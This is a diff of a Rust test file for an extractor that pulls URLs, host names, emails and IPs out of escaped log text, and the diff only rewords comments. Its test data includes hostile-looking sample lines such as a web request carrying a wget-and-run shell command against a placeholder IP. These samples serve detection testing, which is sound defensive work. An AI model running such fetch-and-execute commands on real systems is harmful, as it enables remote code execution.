@@ -1,4 +1,4 @@
-//! Texts with random nests of escapes, held against what they stand for.
+//! Texts with randomly nested escapes, compared with what they decode to.
 
 use super::*;
 use crate::engine::indicator::{Kind, Observable, Where};
@@ -6,7 +6,7 @@ use proptest::prelude::*;
 use std::collections::BTreeSet;
 use std::ops::Range;
 
-/// Takes everything, and where it stood.
+/// Records everything, and its position.
 #[derive(Default)]
 struct Everything {
     found: Vec<(Range<usize>, String)>,
@@ -40,7 +40,7 @@ fn spelt(observable: Observable<'_>) -> String {
     }
 }
 
-/// Takes everything, and keeps nothing.
+/// Receives everything, and keeps nothing.
 struct Nothing(usize);
 
 impl Visitor for Nothing {
@@ -72,7 +72,7 @@ fn all(mut extractor: Extractor, text: &[u8], cuts: &[usize]) -> Vec<(Range<usiz
     visitor.found
 }
 
-/// A character in one of the ways to write it, by `way`; `slashes` before what has any.
+/// A character in one of the ways to write it; `slashes` before forms that have any.
 fn escaped(char: char, way: u8, slashes: usize) -> String {
     let slash = "\\".repeat(slashes);
     let code = char as u32;
@@ -156,8 +156,8 @@ fn values() -> impl Strategy<Value = String> {
 proptest! {
     #![proptest_config(ProptestConfig::with_cases(400))]
 
-    /// Whichever characters are escaped, and how: what is seen is what they stand for,
-    /// however the text is cut, and in both ways.
+    /// Whichever characters are escaped, and how: what is seen is what they decode to, for any
+    /// chunk borders, and in both ways.
     #[test]
     fn nests_stand_for_what_is_in_them(
         pieces in prop::collection::vec(values(), 1..12),
@@ -176,7 +176,7 @@ proptest! {
             all(Extractor::new(), plain.as_bytes(), &[]).into_iter().map(|(_, what)| what).collect();
         let found = all(Extractor::new(), text.as_bytes(), &[]);
         let got: BTreeSet<String> = found.iter().map(|(_, what)| what.clone()).collect();
-        // Of `//host/path` whose slashes are escaped the host alone is told.
+        // For `//host/path` with escaped slashes only the host is reported.
         let is_relative = |what: &&String| {
             let url = what.strip_prefix("LogText Url(").and_then(|url| url.strip_suffix(')'));
             url.is_some_and(|url| !url.contains("://") && plain.contains(&format!("//{url}")))
@@ -196,7 +196,7 @@ proptest! {
     }
 }
 
-/// Each way to write something: what is seen, and what stood there.
+/// Each notation: what is seen, and the text there.
 const KINDS: &[(&str, &str, &str)] = &[
     (r#"{"u":"http\u003a//evil.example/g"}"#, "LogText Url(", r"http\u003a//evil.example/g"),
     (r#"x\\nevil.example"#, "Name(", "evil.example"),
@@ -239,7 +239,7 @@ const KINDS: &[(&str, &str, &str)] = &[
     ("x,/g.php,200", "UrlPath(/g.php)", "/g.php"),
     ("url=http://evil.example/g.php^x=y", "Url(http://evil.example/g.php)", "http://evil"),
     (r"x,http:\/\/evil.example\/g.php,200", "Url(http://evil.example/g.php)", "http:"),
-    // What may be a part of a URL, or stands behind it.
+    // What may belong to a URL, or follow it.
     ("x http://203.0.113.77/x/bin.sh+-O+a", "Url(http://203.0.113.77/x/bin.sh)", "http:"),
     ("GET /?c=wget+http://203.0.113.77/b.sh;sh", "Url(http://203.0.113.77/b.sh)", "http:"),
     ("x http://203.0.113.77/b.sh%20-O", "Url(http://203.0.113.77/b.sh)", "http:"),
@@ -267,7 +267,7 @@ const KINDS: &[(&str, &str, &str)] = &[
     ("x ~~http://evil.example/g.php~~ y", "Url(http://evil.example/g.php)", "http:"),
     ("x _http://evil.example/g.php_. y", "Url(http://evil.example/g.php)", "http:"),
     ("<img src=//evil.example/g.php>", "Url(evil.example/g.php)", "evil.example"),
-    // Beside letters and signs of other scripts.
+    // Next to letters and symbols of other scripts.
     ("x “bad.guy@evil.example”", "Email(bad.guy@evil.example)", "bad.guy"),
     ("x （bad.guy@evil.example）", "Email(bad.guy@evil.example)", "bad.guy"),
     ("x 🔥bad.guy@evil.example", "Email(bad.guy@evil.example)", "bad.guy"),
@@ -280,7 +280,7 @@ const KINDS: &[(&str, &str, &str)] = &[
     ("IP 192.0.2.10.50112 > 203.0.113.9.8443: Flags [S]", "(192.0.2.10, Some(50112))", "192"),
     ("IP6 2001:db8::1.53 > 2001:db8:bad::9.8443: Flags", "(2001:db8:bad::9, Some(8443))", "2001"),
     ("IP6 2001:db8::1.53 > 2001:db8:bad::9.8443: Flags", "(2001:db8::1, Some(53))", "2001"),
-    // Backslashes for slashes.
+    // Backslashes in place of slashes.
     (r"GET http://evil.example\g.php HTTP/1.1", r"Url(http://evil.example/g.php)", "http:"),
     (r"GET http://evil.example\news.php", r"Url(http://evil.example/news.php)", "http:"),
     (r"GET http://evil.example/a\b\g.php", r"Url(http://evil.example/a/b/g.php)", "http:"),
@@ -306,7 +306,7 @@ const KINDS: &[(&str, &str, &str)] = &[
     ("✔evil.example ok", "Name(evil.example)", "evil"),
     ("🔥evil.example🔥", "Name(evil.example)", "evil"),
     ("→evil.example", "Name(evil.example)", "evil"),
-    // Local parts in quotes.
+    // Quoted local parts.
     ("\"bad.guy\"@evil.example", "Email(\"bad.guy\"@evil.example)", "\"bad"),
     ("from=\"bad.guy\"@evil.example x", "Email(\"bad.guy\"@evil.example)", "\"bad"),
     ("<\"bad guy\"@evil.example>", "Email(\"bad guy\"@evil.example)", "\"bad"),
@@ -325,7 +325,7 @@ fn every_kind() {
     }
 }
 
-/// What is no value, whatever it looks like.
+/// What is not a value, whatever it looks like.
 #[test]
 fn no_values() {
     for (text, what) in [
@@ -339,7 +339,7 @@ fn no_values() {
         ("http:\\/\\/bad.guy@evil.example/", "Email("),
         ("http:\\/\\/a:bad.guy@evil.example/", "Email("),
         ("u@SSL", "Name("),
-        // What stands in quotes or brackets is a whole.
+        // Text in quotes or brackets is a unit.
         ("{\"u\":\"http://evil.example/g,h\"}", "Url(http://evil.example/g)"),
         ("<u>http://evil.example/g,h</u>", "Url(http://evil.example/g)"),
         (r"http://evil.example/?a=\g.php", "Url(http://evil.example/?a=/"),
@@ -360,7 +360,7 @@ fn no_values() {
     }
 }
 
-/// A URL is read as far as one can be, and from its beginning, wherever its escapes are.
+/// A URL is parsed as far as possible, and from its beginning, wherever its escapes are.
 #[test]
 fn long_urls() {
     for (len, escape) in [(10_000, ""), (60_000, "\\u0026"), (70_000, ""), (70_000, "&amp;")] {
@@ -379,7 +379,7 @@ fn long_urls() {
     }
 }
 
-/// The work grows as the text does.
+/// The work grows linearly with the text.
 #[test]
 #[expect(clippy::disallowed_methods, reason = "a measurement needs a clock")]
 fn rows_of_escapes() {
